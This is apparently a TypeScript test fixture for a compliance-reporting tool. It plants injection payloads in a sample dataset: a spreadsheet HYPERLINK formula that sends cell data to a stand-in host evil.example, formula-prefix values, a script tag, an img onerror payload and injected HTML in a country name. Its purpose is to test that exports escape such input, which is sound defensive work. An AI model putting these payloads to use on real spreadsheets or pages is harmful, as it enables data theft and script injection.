// A dataset whose submission-supplied text tries to become a formula or markup.
import { HAGUE_2025 } from '../../shared/model/index.ts';
import type { ComplianceResult } from '../../shared/model/index.ts';
import type { ComplianceDataset } from '../../shared/report/index.ts';
import { makeDataset, makeResult } from './dataset.ts';

const HOSTILE = {
  formulaFile: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  plusNote: '+SUM(1,2)',
  atSubmission: '@cmd',
  scriptNote: '<script>window.__pwned = 1; alert(1)</script>',
  imgFile: '<img src=x onerror="window.__pwned=2">.xlsx',
  allyName: 'Albania <b id="injected">bold</b> & "friends"',
} as const;

const hostileResult = (): ComplianceResult => {
  const result = makeResult();
  return {
    ...result,
    allies: result.allies.map((a) =>
      a.iso3 !== 'ALB'
        ? a
        : {
            ...a,
            name: HOSTILE.allyName,
            years: a.years.map((y, i) => ({
              ...y,
              notes: i === 0 ? HOSTILE.plusNote : HOSTILE.scriptNote,
              source: { ...y.source, file: i === 2 ? HOSTILE.imgFile : HOSTILE.formulaFile, submissionId: HOSTILE.atSubmission },
            })),
          },
    ),
  };
};

const hostileDataset = (): ComplianceDataset => makeDataset({ result: hostileResult(), rules: HAGUE_2025 });

export { HOSTILE, hostileResult, hostileDataset };
